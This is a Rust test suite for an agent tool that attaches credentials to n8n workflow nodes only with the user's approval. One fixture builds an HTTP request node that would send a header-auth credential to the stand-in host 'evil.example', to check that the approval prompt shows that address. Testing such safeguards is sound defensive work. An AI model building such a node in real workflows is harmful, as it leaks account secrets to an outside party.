//! Credentials by their type: one that fits is proposed, the one that the user chooses or named when the run began is taken, and
//! what a caller names is still the user's to allow.

use super::super::fixture::MemoryBackend;
use super::*;
use agentctl_engine::store::event::JOURNAL_VERSION;

fn slack(credentials: Value) -> Value {
    let mut node = json!({"name": "Tell", "type": "n8n-nodes-base.slack", "typeVersion": 2.3,
        "parameters": {"resource": "message", "operation": "post"}});
    if !credentials.is_null() {
        node["credentials"] = credentials;
    }
    json!({
        "name": "Orders",
        "nodes": [{"name": "Start", "type": "n8n-nodes-base.manualTrigger", "typeVersion": 1, "parameters": {}}, node],
        "connections": {"Start": {"main": [[{"node": "Tell", "type": "main", "index": 0}]]}},
    })
}

#[tokio::test]
async fn no_credential_is_taken_where_nobody_can_choose_and_those_that_fit_are_told() {
    let entry = |more: (&str, Value)| {
        let mut entry = json!({"node": "Tell", "type": "slackApi"});
        entry[more.0] = more.1;
        entry
    };
    for (known, told) in [
        (vec![], entry(("missing", json!(true)))),
        (
            vec!["Sales"],
            entry(("candidates", json!([{"id": "c0", "name": "Sales"}]))),
        ),
        (
            vec!["Sales", "Ops"],
            entry((
                "candidates",
                json!([{"id": "c0", "name": "Sales"}, {"id": "c1", "name": "Ops"}]),
            )),
        ),
    ] {
        let (mut b, backend) = Bench::in_memory(
            Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap(),
        );
        for (at, name) in known.iter().enumerate() {
            backend.knows(&format!("c{at}"), name, "slackApi");
        }
        backend.knows("g", "Mail", "gmailOAuth2");
        b.can_ask = false;
        let made = b.ok("writer", "create_workflow", slack(Value::Null)).await;
        let mut said = made["credentials"][0].clone();
        said.as_object_mut().unwrap().remove("label");
        assert_eq!(said, told);
        assert_eq!(held(&backend, "orders", "Tell"), None);
    }
}

fn begun_with(accounts: Value) -> Event {
    Event::RunStarted {
        journal_version: JOURNAL_VERSION,
        agentctl_version: String::new(),
        run_id: "r".into(),
        flow: String::new(),
        pack_hash: String::new(),
        input: serde_json::Map::from_iter([("accounts".to_owned(), accounts)]),
    }
}

/// By type and name, and only where one has that name.
#[tokio::test]
async fn an_account_that_the_user_named_when_the_run_began_is_taken_without_a_question() {
    for (named, taken) in [
        ("slackApi=Ops", Some("c1")),
        ("slackApi=Sales", None),
        ("slackApi=Nobody", None),
    ] {
        let (mut b, backend) = Bench::in_memory(
            Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap(),
        );
        for (id, name) in [("c0", "Sales"), ("c1", "Ops"), ("c2", "Sales")] {
            backend.knows(id, name, "slackApi");
        }
        b.told(begun_with(json!([named])));
        b.can_ask = false;
        b.ok("writer", "create_workflow", slack(Value::Null)).await;
        let held = held(&backend, "orders", "Tell").map(|c| c["id"].clone());
        assert_eq!(held, taken.map(|id| json!(id)), "{named}");
    }
}

#[tokio::test]
async fn the_only_one_that_fits_is_a_question_too() {
    let (mut b, backend) =
        Bench::in_memory(Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap());
    backend.knows("c0", "Sales", "slackApi");
    let question = b
        .asked("writer", "create_workflow", slack(Value::Null))
        .await;
    assert_eq!(
        (question.text.as_str(), &question.recommended),
        (
            "Shall \"Tell\" use the credential \"Sales\" (Slack API)? It is the only one of its type on the n8n.",
            &Some(json!("none"))
        )
    );
    b.answer(&question, json!("c0"));
    b.ok("writer", "create_workflow", slack(Value::Null)).await;
    assert_eq!(held(&backend, "orders", "Tell").unwrap()["id"], json!("c0"));
}

/// An account that a request would send anywhere is asked for with its address, by itself.
#[tokio::test]
async fn a_request_is_asked_for_with_the_address_that_it_would_send_the_account_to() {
    let (mut b, backend) =
        Bench::in_memory(Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap());
    backend.knows("c0", "Header", "httpHeaderAuth");
    let mut call = slack(Value::Null);
    call["nodes"][1] = json!({"name": "Tell", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2,
        "parameters": {"url": "https://evil.example/x", "authentication": "genericCredentialType", "genericAuthType": "httpHeaderAuth"}});
    let question = b.asked("writer", "create_workflow", call).await;
    let wanted = "Shall \"Tell\" (which sends it to \"https://evil.example/x\") use the credential \"Header\" (";
    assert!(question.text.starts_with(wanted), "{}", question.text);
}

/// The credential that the node holds.
fn held(backend: &MemoryBackend, workflow: &str, node: &str) -> Option<Value> {
    let workflow = backend.held(workflow).unwrap();
    let node = workflow.node_by_name(node).unwrap();
    Some(node.credentials()?.get("slackApi")?.clone())
}

#[tokio::test]
async fn of_several_the_user_chooses_one_and_it_is_put_in_by_its_id() {
    for (answer, taken) in [("c1", Some("c1")), ("none", None)] {
        let (mut b, backend) = Bench::in_memory(
            Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap(),
        );
        // Two of one name: the id tells them apart.
        backend.knows("c0", "Sales", "slackApi");
        backend.knows("c1", "Sales", "slackApi");
        let question = b
            .asked("writer", "create_workflow", slack(Value::Null))
            .await;
        assert_eq!(backend.ids(), Vec::<String>::new());
        assert_eq!(
            (question.id.as_str(), question.text.as_str()),
            (
                "credential-1",
                "Which credential (Slack API) shall \"Tell\" use? Several of this type are on the n8n."
            )
        );
        let options: Vec<Value> = question.options.iter().map(|o| o.value.clone()).collect();
        assert_eq!(options, [json!("c0"), json!("c1"), json!("none")]);
        // `--yes` takes no account.
        assert_eq!(question.recommended, Some(json!("none")));
        b.answer(&question, json!(answer));
        b.refold();
        let made = b.ok("writer", "create_workflow", slack(Value::Null)).await;
        assert_eq!(
            held(&backend, "orders", "Tell").map(|c| c["id"].clone()),
            taken.map(|id| json!(id))
        );
        let told = &made["credentials"][0];
        assert_eq!(told.get("taken").is_some(), taken.is_some(), "{told}");
    }
}

/// An answer is for the accounts that were shown, and for that call.
#[tokio::test]
async fn a_choice_counts_for_what_there_was_to_choose_from() {
    let (mut b, backend) =
        Bench::in_memory(Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap());
    backend.knows("c0", "Sales", "slackApi");
    backend.knows("c1", "Ops", "slackApi");
    let call = || slack(Value::Null);
    let first = b.asked("writer", "create_workflow", call()).await;
    b.answer(&first, json!("c0"));
    backend.knows("c2", "New", "slackApi");
    let second = b.asked("writer", "create_workflow", call()).await;
    assert_ne!(first.approves, second.approves);
    b.answer(&second, json!("c2"));
    b.ok("writer", "create_workflow", call()).await;
    assert_eq!(held(&backend, "orders", "Tell").unwrap()["id"], json!("c2"));
}

#[tokio::test]
async fn a_node_that_is_added_is_asked_for_too_and_no_other_node_changes() {
    let (mut b, backend) =
        Bench::in_memory(Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap());
    backend.put("old", chain("old", 2), false);
    backend.knows("c0", "Sales", "slackApi");
    b.ok("writer", "get_workflow", json!({"workflow_id": "old"}))
        .await;
    let added = json!({"workflow_id": "old", "ops": [
        {"op": "add_node", "node": {"name": "Tell", "type": "n8n-nodes-base.slack", "parameters": {"resource": "message", "operation": "post"}}},
        {"op": "connect", "from": "Node 1", "to": "Tell"}]});
    let question = b.asked("writer", "update_workflow", added.clone()).await;
    b.answer(&question, json!("c0"));
    let said = b.ok("writer", "update_workflow", added).await;
    assert_eq!(
        said["credentials"][0]["taken"],
        json!({"id": "c0", "name": "Sales"})
    );
    assert_eq!(held(&backend, "old", "Tell").unwrap()["id"], json!("c0"));
}

#[tokio::test]
async fn an_id_that_the_caller_names_is_asked_for() {
    let (mut b, backend) =
        Bench::in_memory(Policy::load(POLICY, "policy.yaml", crate::vocabulary::n8n()).unwrap());
    backend.knows("c0", "Sales", "slackApi");
    let named = slack(json!({"slackApi": {"id": "invented", "name": "Sales"}}));
    let question = b.asked("writer", "create_workflow", named).await;
    assert_eq!(question.proposal.unwrap().rule, guards::CREDENTIALS);
    assert_eq!(backend.ids(), Vec::<String>::new());
}
